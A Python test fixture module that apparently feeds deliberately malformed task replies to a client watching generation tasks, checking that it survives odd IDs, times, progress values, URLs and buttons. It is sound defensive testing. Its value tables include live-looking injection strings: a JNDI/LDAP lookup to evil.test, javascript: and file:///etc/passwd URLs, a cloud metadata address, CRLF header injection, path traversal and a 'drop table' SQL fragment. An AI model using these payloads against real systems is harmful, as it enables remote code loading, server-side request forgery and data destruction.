"""Tasks with the wrong thing in every field: ids, times, progress, addresses, buttons, words."""

from __future__ import annotations

from tests.hostile.case import Case, fetched, http, listed, of, task

BIDI = "\u202egnp.exe\u2066\u2028\x1b[2J\x9b31m\x00\ufeff\ud83d"
WRONG: dict[str, object] = {
    "nothing": None,
    "true": True,
    "a float": 1.5,
    "a negative": -1,
    "a huge number": 10**19,
    "a number of 30 digits": 10**30,
    "no text": "",
    "white space": " \n\t ",
    "bidi and controls": BIDI,
    "a text of 100 kB": "x" * 100_000,
    "a list": [],
    "lists in lists": [[[[[]]]]],
    "an object": {},
    "objects": {"a": {"b": [{"c": None}]}},
    "format": "{0.__class__} %s %n ${jndi:ldap://evil.test/a}",
}
KEYS = (
    "parentId", "action", "status", "prompt", "promptEn", "description", "state", "submitTime", "startTime", "finishTime",
    "imageUrl", "imageUrls", "videoUrl", "videoUrls", "progress", "failReason", "buttons", "seed", "mode", "properties",
)  # fmt: skip

EVERYWHERE = {
    f"{name} everywhere": listed(task("1", **dict.fromkeys(KEYS, value)), task("2"))
    for name, value in WRONG.items()
}
ENDED = {
    f"{name} at the end": listed(*[
        task(one, **(dict.fromkeys(KEYS, value) | {"status": "SUCCESS"})) for one in ("1", "2")
    ])
    for name, value in WRONG.items()
}
FAILED = {
    f"{name} as a reason": listed(*[
        task(one, status="FAILURE", failReason=value, progress=value) for one in ("1", "2")
    ])
    for name, value in WRONG.items()
}

IDS: dict[str, object] = {
    "dots": "..", "a path": "../../admin", "a query": "1?x=/fetch", "a fragment": "1#", "percent": "%2e%2e%2f",
    "a line break": "1\n", "a header": "1\r\nHost: evil.test", "nul": "1\0", "escape": "\x1b[2J1", "bidi": "\u202e1",
    "a look-alike": "\uff11", "an arabic one": "\u0661", "10 kB": "1" * 10_000, "half a pair": "1\ud800", "space": " 1",
    "a backslash": "1\\..\\2", "a semicolon": "1;drop table tasks", "a list": ["1"], "an object": {"id": "1"},
    "true": True, "minus one": -1, "1.0": 1.0, "20 digits more": 10**25,
}  # fmt: skip

TIMES: dict[str, object] = {
    "negative": -1, "zero": 0, "seconds for milliseconds": 1_735_689_600, "nanoseconds": 1_735_689_600_000_000_000,
    "year 9999": 253_402_300_799_999, "year 10000": 253_402_300_800_000, "64 bits": 2**63, "a float": 1.7e12,
    "1e308": 1e308, "a text": "yesterday", "digits": "1735689600000", "iso": "2025-01-01T00:00:00+99:99",
    "iso without end": "2025-01-01T" + "0" * 5_000, "leap second": "2016-12-31T23:59:60Z", "feb 30": "2025-02-30 00:00:00",
}  # fmt: skip

PROGRESS: dict[str, object] = {
    "over": "101%", "far over": "9" * 5_000 + "%", "negative": "-1%", "fraction": "12.5%", "exponent": "1e2%",
    "fullwidth": "\uff15\uff10%", "arabic": "\u0665\u0660%", "two": "50%50%", "words": "fast", "escape": "\x1b[31m50%",
    "backwards": "\u202e%05", "number": 50, "float": 50.5, "huge": 1e308, "list": ["50%"], "spaces": "  50 %  ",
    "hundred while running": "100%", "nul": "50%\0", "a million spaces": " " * 100_000 + "5%",
}  # fmt: skip

ADDRESSES: dict[str, object] = {
    "javascript": "javascript:alert(1)", "data": "data:text/html;base64,PHNjcmlwdD4=", "file": "file:///etc/passwd",
    "spaced scheme": "java\nscript:alert(1)", "no scheme": "//evil.test/1.png", "relative": "/1.png", "credentials": "https://a:b@evil.test/",
    "controls": "https://cdn.test/\x1b[2J", "bidi": "https://cdn.test/\u202egnp.1", "space": "https://cdn.test/a b", "300 kB": "https://cdn.test/" + "a" * 300_000,
    "crlf": "https://cdn.test/\r\nX: 1", "no host": "https:///1.png", "bad brackets": "https://[::1/1.png", "port": "https://cdn.test:99999/",
    "backslash": "https:\\\\evil.test", "look-alike": "https://cdn\u2024test/", "metadata": "http://169.254.169.254/latest/meta-data/", "loopback": "http://127.0.0.1:6379/",
    "quotes": "https://cdn.test/\"onload='x'", "markdown": "https://cdn.test/)[x](javascript:1)", "number": 7, "object": {"url": "javascript:1"},
}  # fmt: skip

BUTTONS: dict[str, object] = {
    "10,000": [{"customId": f"MJ::JOB::upsample::{n}", "label": "U"} for n in range(10_000)],
    "null": None,
    "text": "MJ::JOB::upsample::1",
    "nulls": [None] * 100,
    "an object": {"customId": "1"},
    "wrong types": [
        {"customId": 7, "label": [], "emoji": {}, "type": "x", "style": None},
        {"label": "x"},
        [],
        7,
    ],
    "twins": [{"customId": "a", "label": "x"}] * 50,
    "long": [{"customId": "MJ::" + "x" * 100_000, "label": "y" * 100_000}],
    "controls": [{"customId": BIDI, "label": BIDI, "emoji": BIDI}],
    "index": [
        {"customId": "MJ::JOB::upsample::" + "9" * 5_000},
        {"customId": "MJ::JOB::upsample::-1::\uff11"},
    ],
}


def tasks_with(key: str, values: dict[str, object]) -> dict[str, bytes]:
    """Return lists whose first task has an odd *key*; the address cases show it in every place of an address."""
    return {f"{key}: {name}": listed(task("1", **{key: value}), task("2")) for name, value in values.items()}


def everywhere_an_address(value: object) -> dict[str, object]:
    """Return all fields that may hold an address, holding *value*."""
    shown = {"url": value, "thumbnail": value}
    return {"imageUrl": value, "imageUrls": [value, shown], "videoUrl": value, "videoUrls": [shown, value]}


SHOWN = {
    f"address: {name}": listed(task("1", **everywhere_an_address(value)), task("2"))
    for name, value in ADDRESSES.items()
}
RESULTS = {
    f"result: {name}": listed(*[
        task(one, **everywhere_an_address(value), status="SUCCESS", buttons=[]) for one in ("1", "2")
    ])
    for name, value in ADDRESSES.items()
}


NO_IDS = {name: value for name, value in IDS.items() if name != "minus one"}


def enveloped(**data: object) -> bytes:
    """Return a reply of the enveloped family."""
    return fetched({"code": 0, "message": "ok", "data": data})


def lone(values: dict[str, object], key: str) -> dict[str, bytes]:
    """Return enveloped replies with an odd *key*."""
    base: dict[str, object] = {"taskId": "1", "status": "running"}
    return {f"enveloped {key}: {name}": enveloped(**(base | {key: value})) for name, value in values.items()}


def observed(wires: dict[str, bytes]) -> dict[str, Case]:
    """Return cases in which the task is read all the same."""
    return of("ok: observation", wires)


ENDS: dict[str, Case] = observed(ENDED | FAILED | RESULTS)
"""Each of these ends a watch, so each needs one of its own."""

GROUPS: dict[str, dict[str, Case]] = {
    "all keys": observed(EVERYWHERE),
    "addresses": observed(SHOWN),
    "ids": of("ok: garbled", {f"id: {name}": listed(task(value), task("2")) for name, value in IDS.items()}),
    "parents": observed(tasks_with("parentId", IDS)),
    "times": observed(tasks_with("submitTime", TIMES) | tasks_with("finishTime", TIMES)),
    "progress": observed(tasks_with("progress", PROGRESS)),
    "buttons": observed(tasks_with("buttons", BUTTONS)),
    "enveloped": {
        **of("ok: observation", lone(TIMES, "enqueue_time"), "enveloped", is_single=True),
        **of("ok: observation", lone(ADDRESSES, "video_url"), "enveloped", is_single=True),
        **of("ok: observation", lone(WRONG, "status") | lone(WRONG, "width"), "enveloped", is_single=True),
        **of("ok: garbled", lone(NO_IDS, "taskId"), "enveloped", is_single=True),
        **of("missing", {"enveloped: null": fetched({"code": 0, "data": None})}, "enveloped", is_single=True),
        **of(
            "ok: garbled",
            {"enveloped: a list": fetched({"code": 0, "data": [1]})},
            "enveloped",
            is_single=True,
        ),
        **of(
            "corrupt",
            {"enveloped: endless": http(b'{"code":0,"data":' * 100_000)},
            "enveloped",
            is_single=True,
        ),
    },
}
"""Cases that can follow each other in one watch."""
